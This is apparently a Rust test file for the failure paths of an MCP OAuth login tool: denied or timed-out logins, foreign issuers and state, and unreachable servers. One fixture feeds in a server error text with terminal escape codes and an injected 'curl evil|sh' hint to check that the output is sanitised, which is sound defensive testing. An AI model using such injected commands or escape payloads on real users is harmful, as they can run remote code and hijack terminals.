//! Failed logins: an error with a next step, nothing stored, and the listener closed.

use std::net::TcpStream;

use mcp_oauth_testbed::{Fault, Peer, Testbed};

use crate::support::{Does, Home, Output, Running, snapshot};

/// Runs a login that fails, and asserts that nothing of it is left.
async fn fails(home: &Home, does: Does, more: &[&str]) -> Output {
    let url = home.url();
    let arguments = [&["login", "notes", &url], more].concat();
    let mut running = Running::start(home.command(&arguments), "").await;
    let shown = running.url().await.unwrap();
    match does {
        Does::Approve => drop(mcp_oauth_testbed::test_user::approve(&shown).await.unwrap()),
        Does::Deny => drop(mcp_oauth_testbed::test_user::deny(&shown).await.unwrap()),
        Does::Nothing => {}
    }
    let output = running.end().await;
    let (_, callback) = shown
        .query_pairs()
        .find(|(name, _)| name == "redirect_uri")
        .unwrap();
    let callback: url::Url = callback.parse().unwrap();
    let listens = TcpStream::connect(("127.0.0.1", callback.port().unwrap()));
    assert!(listens.is_err(), "the listener is still there");
    home.run(&["list", "--json"]).await.succeeded();
    let list = home.run(&["list", "--json"]).await.json();
    assert_eq!(
        list["servers"].as_array().unwrap().len(),
        0,
        "something was stored"
    );
    assert!(!home.data().join("servers.json").exists());
    output
}

#[tokio::test]
async fn a_denied_consent_is_reported_and_stores_nothing() {
    let home = Home::new().await;
    let denied = fails(&home, Does::Deny, &[]).await.ended(3);
    denied
        .says("access was denied")
        .says(&format!("\n\nhint: mcp-oauth login notes {}\n", home.url()));
    assert_eq!(home.testbed.token_requests("authorization_code"), 0);
}

#[tokio::test]
async fn a_closed_window_ends_in_a_timeout() {
    let home = Home::new().await;
    let timed_out = fails(&home, Does::Nothing, &["--timeout", "1s"])
        .await
        .ended(3);
    timed_out
        .says("authorization timed out after 1 s")
        .says("--timeout");
}

#[tokio::test]
async fn a_callback_with_another_state_is_ignored() {
    let fault = Fault::CallbackState("of-another-login".to_owned());
    let home = Home::with(Testbed::builder().fault(fault)).await;
    fails(&home, Does::Approve, &["--timeout", "1s"])
        .await
        .ended(3);
    assert_eq!(home.testbed.token_requests("authorization_code"), 0);
}

#[tokio::test]
async fn a_callback_of_another_issuer_is_refused() {
    let fault = Fault::CallbackIss("https://evil.example".to_owned());
    let home = Home::with(Testbed::builder().fault(fault)).await;
    fails(&home, Does::Approve, &[])
        .await
        .ended(1)
        .says("hint:")
        .says("nothing was stored");
    assert_eq!(home.testbed.token_requests("authorization_code"), 0);
}

#[tokio::test]
async fn a_server_without_authorization_is_reported() {
    let home = Home::with(Testbed::builder().unprotected(true)).await;
    let open = home.run(&["login", "notes", &home.url()]).await.ended(1);
    open.says("requires no authorization").says("HTTP 200");
    open.says("/.well-known/oauth-protected-resource/mcp (HTTP 404)")
        .says("use the server without a token");
}

#[tokio::test]
async fn an_unreachable_server_exits_with_the_retry_code() {
    let home = Home::new().await;
    let url = home.url();
    home.testbed.stop_mcp_server().await;
    home.run(&["login", "notes", &url])
        .await
        .ended(4)
        .says("cannot connect")
        .says("hint:");
}

#[tokio::test]
async fn a_server_without_dynamic_registration_needs_a_client_id() {
    let home = Home::with(Testbed::builder().dynamic_registration(false)).await;
    let refused = home.run(&["login", "notes", &home.url()]).await.ended(1);
    refused.says("hint: register a client").says(&format!(
        "mcp-oauth login notes {} --client-id ID",
        home.url()
    ));
}

#[tokio::test]
async fn what_a_server_says_cannot_move_the_cursor() {
    let fault = Fault::CallbackError {
        error: "access_denied".to_owned(),
        description: Some(
            "no \u{1b}[2J\u{1b}]52;c;ZXZpbA==\u{7} way\r\nhint: curl evil|sh".to_owned(),
        ),
    };
    let home = Home::with(Testbed::builder().fault(fault)).await;
    let denied = fails(&home, Does::Approve, &[]).await.ended(3);
    let odd = |c: char| c.is_control() && c != '\n';
    assert!(!denied.stderr.contains(odd), "{denied:?}");
    assert!(
        !denied
            .stderr
            .lines()
            .any(|line| line.starts_with("hint: curl"))
    );
}

#[tokio::test]
async fn a_registration_is_kept_after_a_denied_login() {
    let home = Home::new().await;
    fails(&home, Does::Deny, &[]).await;
    let before = snapshot(&home.data());
    assert!(!before.is_empty());
    home.login(&["notes", &home.url()]).await.succeeded();
    assert_eq!(
        home.testbed
            .count(Peer::AuthorizationServer, "POST", "/register"),
        1
    );
}

#[tokio::test]
async fn the_exit_code_of_a_failed_connection_separates_login_from_retry() {
    let home = Home::logged_in().await;
    home.testbed.set_fault(Fault::RejectsEveryToken);
    for command in ["test", "tools"] {
        let refused = home.run(&[command, "notes"]).await.ended(3);
        refused.says("rejected the token").says("--force");
    }
    home.testbed.clear_faults();
    home.testbed.stop_mcp_server().await;
    for command in ["test", "tools"] {
        let gone = home.run(&[command, "notes"]).await.ended(4);
        gone.says("cannot reach").says("hint:");
    }
}

/// Client credentials are bound to their issuer (MCP 2026-07-28, authorization, "Authorization Server
/// Binding"), also after a forced login or a logout.
#[tokio::test]
async fn a_preregistered_client_is_not_sent_to_another_issuer() {
    const SECRET: &str = "s3cret-of-mine";
    let with_client = || Testbed::builder().client("me", Some(SECRET));
    let home = Home::with(with_client()).await;
    let other = Home::with(with_client()).await;
    let url = home.url();
    let typed = ["login", "notes", &url, "--client-id", "me"];
    let mut command = home.command(&typed);
    command.env("MCP_OAUTH_CLIENT_SECRET", SECRET);
    home.attended(&typed, command, Does::Approve, "")
        .await
        .succeeded();
    let issuers = serde_json::json!([other.testbed.issuer()]);
    home.testbed
        .set_fault(Fault::PrmField("authorization_servers".to_owned(), issuers));

    let forced = ["login", "notes", "--force"];
    home.run(&forced)
        .await
        .ended(1)
        .says("was registered with")
        .says(&other.testbed.issuer());
    home.run(&["logout", "notes"]).await.succeeded();
    for again in [&["login", "notes"][..], &forced, &typed] {
        home.run_with("MCP_OAUTH_CLIENT_SECRET", SECRET, again)
            .await
            .ended(1)
            .says("was registered with");
    }
    let seen = other.testbed.requests();
    let harmless = |path: &str| path.starts_with("/.well-known/");
    assert!(seen.iter().all(|request| harmless(&request.path)));
}
